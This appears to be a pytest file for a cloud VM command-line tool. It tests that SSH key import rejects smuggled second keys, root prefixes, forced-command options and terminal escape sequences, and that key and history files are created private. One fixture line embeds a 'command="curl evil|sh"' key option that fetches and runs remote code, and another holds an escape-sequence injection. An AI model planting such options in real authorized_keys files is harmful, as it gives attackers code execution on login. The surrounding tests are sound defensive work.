    state.cache_replace("moto", "vm", [{"name": name, "status": "running", "cloud": "moto"}])
    state.close()
    offered = bash_complete("cms vm info we")
    assert len(offered) == 1, offered
    work = tmp_path / "cwd"
    work.mkdir()
    assert bash_runs("cms vm info " + offered[0], work) == ["vm", "info", name]
    assert not (work / "marker").exists()


def two_keys(tmp_path: Path) -> tuple[Path, str, str]:
    """A .pub file with alice's key on line 1 and a root: line with mallory's on line 2."""
    from cloudmesh.compute.keys import generate_ed25519

    alice = generate_ed25519(tmp_path / "alice", "alice@laptop")["public_key"]
    mallory = generate_ed25519(tmp_path / "mallory", "mallory")["public_key"]
    team = tmp_path / "team.pub"
    team.write_text(f"{alice}\nroot:{mallory}\n")
    return team, alice, mallory


def test_a_key_file_with_a_hidden_second_key_is_refused(cms_home: Path,
                                                        tmp_path: Path) -> None:
    team, alice, _ = two_keys(tmp_path)
    line = one_line_error(cms_here("key", "add", "team", f"--source={team}"), 2)
    assert "2 keys" in line and "--source" in line, line
    assert cms_here("key", "list", "--output=json").json() == []
    alone = tmp_path / "alice-only.pub"
    for text, words in ((f"root:{alice}\n", "login prefix"),
                        (f'command="curl evil|sh" {alice}\n', "options"),
                        (f'from="10.0.0.0/8" {alice}\n', "options"),
                        (f"{alice}\r\nssh-ed25519\n", "2 keys"),
                        (f"{alice} a\x1b]0;owned\x07\n", "control character")):
        alone.write_text(text)
        assert words in one_line_error(cms_here("key", "add", "k", f"--source={alone}"), 2)
    alone.write_text(alice + "\n")
    assert cms_here("key", "add", "alice", f"--source={alone}").code == 0


def test_a_tampered_registry_key_never_reaches_a_vm(tmp_path: Path) -> None:
    """A registry entry whose text holds a second key (written behind cms's back) is
    re-validated on use: the boot is refused before the cloud is asked; a good key reaches
    the VM as its one canonical line."""
    from cloudmesh.compute.state import State

    host = MultipassHost(tmp_path)
    team, alice, mallory = two_keys(tmp_path)
    state = State(tmp_path / "config" / "cloudmesh.db")
    state.key_put({"name": "team", "type": "ssh-ed25519", "fingerprint": "SHA256:x",
                   "public_key": team.read_text(), "path": str(team), "private_path": None})
    state.close()
    refused = host.cms("vm", "boot", "--name=vm1", "--key=team", "--username=alice",
                       "--cloud=multipass")
    assert refused.returncode == 2 and "2 keys" in refused.stderr, refused.stderr
    assert "Traceback" not in refused.stderr
    assert not host.instances()
    (tmp_path / "alice.pub").write_text(f"  {alice}  \n")
    assert host.cms("key", "add", "alice", f"--source={tmp_path / 'alice.pub'}").returncode == 0
    booted = host.cms("vm", "boot", "--name=vm2", "--key=alice", "--username=alice",
                      "--cloud=multipass")
    assert booted.returncode == 0, booted.stderr
    import yaml

    cloud_init = host.instances()["vm2"]["cloud_init"]
    users = [u for u in yaml.safe_load(cloud_init)["users"] if isinstance(u, dict)]
    assert [u["ssh_authorized_keys"] for u in users] == [[alice]], cloud_init
    assert mallory.split()[1] not in cloud_init


def test_the_history_file_is_private_from_its_first_byte(cms_home: Path,
                                                         monkeypatch) -> None:
    """With umask 022, the cms> history is 0600 when its writer first holds it open, even
    for a writer that opens it with the default mode (libedit's does), and an older
    readable history is made private before it is written again."""
    import io
    import readline

    from cloudmesh.compute import repl

    seen: list[int] = []

    def writer(path) -> None:  # as libedit writes it: open(), the default mode
        with open(path, "w") as handle:
            seen.append(stat.S_IMODE(os.fstat(handle.fileno()).st_mode))
            handle.write("version\n")

    monkeypatch.setattr(readline, "write_history_file", writer)
    old = os.umask(0o022)
    try:
        for existing in (False, True):
            if existing:
                (cms_home / "history").chmod(0o644)
            monkeypatch.setattr(sys, "stdin", io.StringIO("quit\n"))
            assert repl._interactive(repl.Shell()) == 0
    finally:
        os.umask(old)
    assert seen == [0o600, 0o600]
    assert stat.S_IMODE((cms_home / "history").stat().st_mode) == 0o600
    assert os.umask(old) == old  # the umask is given back


def test_a_private_key_is_created_0600_never_chmod_ed(cms_home: Path, monkeypatch) -> None:
    from cloudmesh.compute import keys

    created: list[tuple[str, int, int]] = []
    real_open, real_chmod = os.open, os.chmod
    chmods: list[str] = []
    monkeypatch.setattr(os, "open", lambda path, flags, mode=0o777, **kw: (
        created.append((str(path), flags, mode)), real_open(path, flags, mode, **kw))[1])
    monkeypatch.setattr(os, "chmod", lambda path, *a, **kw: (
        chmods.append(str(path)), real_chmod(path, *a, **kw))[1])
    old = os.umask(0o022)
    try:
        entry = keys.generate_ed25519(cms_home / "keys" / "lab", "test")
    finally:
        os.umask(old)
    private = [c for c in created if c[0] == entry["private_path"]]
    assert len(private) == 1 and private[0][2] == 0o600 and private[0][1] & os.O_EXCL
    assert entry["private_path"] not in chmods
    assert stat.S_IMODE(os.stat(entry["private_path"]).st_mode) == 0o600
